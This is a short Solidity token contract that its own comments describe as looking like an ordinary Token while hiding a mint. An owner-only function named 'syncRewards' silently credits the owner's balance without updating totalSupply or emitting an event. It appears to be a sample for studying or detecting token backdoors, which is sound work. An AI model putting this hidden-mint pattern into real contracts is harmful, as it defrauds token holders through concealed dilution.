// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import "./Token.sol";

/// Looks like Token, but one innocuous name creates new supply for the owner.
contract HiddenMintToken is Token {
    address private immutable owner = msg.sender;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply)
        Token(name_, symbol_, decimals_, supply)
    {}

    /// Neither moves totalSupply nor tells anybody by an event.
    function syncRewards(uint256 amount) external {
        require(msg.sender == owner, "not owner");
        balanceOf[owner] += amount;
    }
}
